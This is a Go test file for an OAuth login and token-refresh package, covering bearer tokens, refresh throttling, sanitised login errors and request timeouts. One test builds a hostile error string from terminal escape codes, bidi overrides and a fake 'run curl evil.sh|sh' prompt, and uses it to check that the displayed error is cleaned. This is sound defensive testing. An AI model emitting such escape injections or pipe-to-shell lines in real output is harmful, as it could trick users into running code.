package mcpauth

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"golang.org/x/oauth2"

	"github.com/capbridge/capbridge/internal/testkit/leakcheck"
	"github.com/capbridge/capbridge/internal/testkit/mcptest"
	"github.com/capbridge/capbridge/internal/testkit/oauthtest"
	"github.com/capbridge/capbridge/mcpwire"
)

// A token is sent as a bearer token only when it is one, and its expiry
// is read so that no token is renewed before every request.
func TestBearer(t *testing.T) {
	now := time.Date(2026, 12, 6, 0, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		typ    string
		expiry time.Time
		want   time.Time
		ok     bool
	}{
		{"Bearer", now.Add(time.Hour), now.Add(time.Hour), true},
		{"bearer", now.Add(time.Hour), now.Add(time.Hour), true},
		{"", time.Time{}, time.Time{}, true},
		{"DPoP", now.Add(time.Hour), time.Time{}, false},
		{"mac", now.Add(time.Hour), time.Time{}, false},
		{"Bearer", now.Add(-time.Second), time.Time{}, true},                        // expires_in: -1
		{"Bearer", time.Date(1734, 8, 27, 0, 0, 0, 0, time.UTC), time.Time{}, true}, // wrapped
		{"Bearer", now.Add(20 * time.Second), now.Add(40 * time.Second), true},      // renewed at its half
	} {
		got, err := bearer(&oauth2.Token{AccessToken: "a", TokenType: tc.typ, Expiry: tc.expiry}, now)
		if (err == nil) != tc.ok || (err == nil && !got.Expiry.Equal(tc.want)) {
			t.Errorf("type %q, expiry %v: %v, %v; want expiry %v, ok %v", tc.typ, tc.expiry, got, err, tc.want, tc.ok)
		}
	}
}

// A token endpoint answering expires_in -1, or one past time's range, or
// a few seconds, costs one refresh, not one per request (ten requests
// made ten refresh grants, lock takings and file writes).
func TestShortTokensNotRefreshedPerRequest(t *testing.T) {
	t.Cleanup(leakcheck.Check(t))
	for _, tc := range []struct{ ctype, body string }{
		{"application/json", `{"access_token":"at-%d","token_type":"Bearer","expires_in":-1,"refresh_token":"rt"}`},
		{"application/json", `{"access_token":"at-%d","token_type":"Bearer","expires_in":5,"refresh_token":"rt"}`},
		{"text/plain", `access_token=at-%d&token_type=bearer&expires_in=9223372037&refresh_token=rt`},
	} {
		var refreshes atomic.Int64
		ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			n := refreshes.Add(1)
			w.Header().Set("Content-Type", tc.ctype)
			fmt.Fprintf(w, tc.body, n)
		}))
		store := Store{Dir: filepath.Join(t.TempDir(), "oauth")}
		if err := store.Save(&Saved{Server: "web", URL: "http://127.0.0.1:9/mcp", TokenEndpoint: ts.URL + "/token", ClientID: "c",
			AccessToken: "at-0", RefreshToken: "rt", Expiry: time.Now().Add(-time.Hour)}); err != nil {
			t.Fatal(err)
		}
		a := NewStoredAuthorizer(store, "web", "http://127.0.0.1:9/mcp", ts.Client())
		for range 10 {
			if err := a.Authorize(context.Background(), http.Header{}); err != nil {
				t.Fatal(err)
			}
		}
		ts.Close()
		if n := refreshes.Load(); n != 1 {
			t.Errorf("%s %q: 10 requests made %d refresh grants, want 1", tc.ctype, tc.body, n)
		}
	}
}

// What an authorization server says in a refused login reaches the
// person's terminal without control characters and bounded; the
// server's URL in an error is without its query, which may be a key.
func TestLoginErrorsShownSafely(t *testing.T) {
	t.Cleanup(leakcheck.Check(t))
	as := oauthtest.New(oauthtest.Options{})
	t.Cleanup(as.Close)
	as.AddPublicClient("capbridge-cli", "mcp:read")
	_, server := guarded(t, as, mcptest.HTTPOptions{})
	hostile := "\x1b]0;owned\x07\x1b[2J\x1b[1;31mFAKE: run curl evil.sh|sh\x1b[0m\r\n\u009b2J\u009b1;31m \u202egnp.exe" + strings.Repeat("A", 4096)
	refuse := func(u string) error {
		p, err := url.Parse(u)
		if err != nil {
			return err
		}
		q := p.Query()
		cb := q.Get("redirect_uri") + "?state=" + url.QueryEscape(q.Get("state")) + "&error=access_denied&error_description=" + url.QueryEscape(hostile)
		resp, err := as.Client().Get(cb)
		if err == nil {
			resp.Body.Close()
		}
		return err
	}
	_, err := Login(context.Background(), LoginOptions{Server: "web", URL: server, ClientID: "capbridge-cli", HTTP: as.Client(), Open: refuse})
	if err == nil || !strings.Contains(err.Error(), "access_denied") {
		t.Fatalf("Login: %v", err)
	}
	if strings.ContainsFunc(err.Error(), func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) }) || len(err.Error()) > 1024 {
		t.Errorf("the refusal as shown: %q (%d bytes)", err, len(err.Error()))
	}

	gone := httptest.NewServer(http.NotFoundHandler())
	u := gone.URL + "/mcp?api_key=SECRET-QUERY-KEY-123"
	gone.Close()
	hc, err := mcpwire.HTTPClient(mcpwire.HTTPOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = Login(context.Background(), LoginOptions{Server: "web", URL: u, HTTP: hc})
	if err == nil || strings.Contains(err.Error(), "SECRET-QUERY-KEY-123") {
		t.Errorf("a server not reached: %v", err)
	}
	hc.CloseIdleConnections()
}

// Each of a login's requests is bounded: a server that accepts the probe
// and never answers ends the login with an error, not at the person's
// Ctrl-C.
func TestLoginFetchBounded(t *testing.T) {
	t.Cleanup(leakcheck.Check(t))
	release := make(chan struct{})
	silent := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { <-release }))
	defer silent.Close()
	defer close(release)
	hc, err := mcpwire.HTTPClient(mcpwire.HTTPOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer hc.CloseIdleConnections()
	done := make(chan error, 1)
	go func() {
		_, err := Login(context.Background(), LoginOptions{Server: "web", URL: silent.URL + "/mcp", HTTP: hc, fetchTimeout: 50 * time.Millisecond})
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "reaching the server") {
			t.Fatalf("Login: %v", err)
		}
	case <-time.After(time.Minute): // a backstop: the bound is 50 ms
		t.Fatal("Login still waits on a server that never answers")
	}
}
